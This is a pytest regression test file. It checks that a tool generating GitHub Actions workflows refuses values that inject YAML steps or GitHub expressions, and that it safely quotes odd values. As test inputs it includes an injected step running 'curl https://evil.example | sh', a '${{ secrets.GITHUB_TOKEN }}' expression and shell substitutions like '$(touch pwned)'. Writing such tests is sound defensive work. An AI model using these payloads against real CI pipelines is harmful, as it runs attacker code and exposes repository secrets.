"""Issue 10 item 11: what `mlnb ci init github` writes into the workflow's YAML cannot add
steps, end a block early, or be evaluated by GitHub Actions: hostile values are refused (and
nothing is written), odd but valid ones are quoted so the workflow parses to exactly the
steps it always has."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from mlnb.cli.app import cli
from mlnb.jobs.workflows import github_workflow

# Before the fix this --vs gave the workflow four extra steps running `curl ... | sh`.
INJECTED_STEP = "x\n      - name: pwn\n        run: curl https://evil.example | sh\n      - name: y"


def steps(text: str) -> list[dict[str, Any]]:
    flow = yaml.safe_load(text)
    found: list[dict[str, Any]] = flow["jobs"]["notebooks"]["steps"]
    return found


def commands(step: dict[str, Any]) -> list[list[str]]:
    """The step's shell lines, each as the argv bash would give the command."""
    lines = step["run"].replace("\\\n", " ").splitlines()  # join continued lines
    return [shlex.split(line) for line in lines if line.strip()]


CONTROL = "a line break or control character"
EXPRESSION = "GitHub expression"


@pytest.mark.parametrize(
    ("option", "value", "message"),
    [
        ("--vs", "x\n  - name: pwn", CONTROL),
        ("--vs", INJECTED_STEP, CONTROL),
        ("--vs", "latest\r", CONTROL),
        ("--vs", "a\u2028b", CONTROL),  # a line break to YAML 1.1
        ("--vs", "${{ secrets.GITHUB_TOKEN }}", EXPRESSION),  # expanded before bash runs
        ("--notebook", "nb/train.ipynb\n      - run: curl https://evil.example", CONTROL),
        ("--notebook", "nb/${{ github.event.issue.title }}.ipynb", EXPRESSION),
        ("-m", "acc>=0.8\n      - run: curl https://evil.example", CONTROL),
        ("-m", "acc\x85>=0.8", CONTROL),
    ],
)
def test_ci_init_refuses_values_that_would_change_the_workflow(
    option: str, value: str, message: str
) -> None:
    """Issue 10 item 11: `mlnb ci init github --vs $'x\\n  - name: pwn'` wrote extra steps."""
    target = Path("flow.yml")
    result = CliRunner().invoke(cli, ["ci", "init", "github", "--path", str(target), option, value])
    assert result.exit_code == 1, result.output
    assert message in result.output and "Traceback" not in result.output
    assert not target.exists()


def test_ci_init_quotes_odd_values_so_the_steps_stay_the_same() -> None:
    """Issue 10 item 11: a run name with `: `, ` #`, quotes and shell syntax broke the YAML
    (or would have reached bash unquoted); quoted, the workflow keeps exactly its steps."""
    vs = 'it\'s #1: "best" & <b> $(touch pwned) `id`'
    notebook = "nb/we'ird: #x $HOME *.ipynb"
    metrics = ["val loss<0.5", "f1: macro >= 0.7"]
    args = ["ci", "init", "github", "--path", "flow.yml", "--vs", vs, "--notebook", notebook]
    result = CliRunner().invoke(cli, [*args, *(a for m in metrics for a in ("-m", m))])
    assert result.exit_code == 0, result.output
    got = steps(Path("flow.yml").read_text())
    default = steps(github_workflow())
    assert [s.get("uses") for s in got] == [s.get("uses") for s in default]
    assert [s.get("name") for s in got] == [
        f"Gate against the run {vs}" if s.get("name", "").startswith("Gate") else s.get("name")
        for s in default
    ]
    by_name = {s.get("name"): s for s in got}
    assert commands(by_name["Notebooks run as tests"]) == [["mlnb", "test", "nb/"]]
    assert commands(by_name["Train"]) == [
        ["mlnb", "run", notebook, "outputs/we'ird: #x $HOME *.ipynb", "--name", "$RUN_NAME",
         "--experiment", "ci", "--check", "metrics.`val loss` < 0.5",
         "--check", "metrics.`f1: macro` >= 0.7"]
    ]  # fmt: skip
    gate = commands(by_name[f"Gate against the run {vs}"])
    assert gate == [
        ["mlnb", "gate", "$RUN_NAME", "--metric", metrics[0], "--metric", metrics[1], "--vs", vs]
    ]
    report = commands(by_name["Report (job summary, Markdown and HTML)"])
    assert [line[line.index("--vs") + 1] for line in report] == [vs, vs]
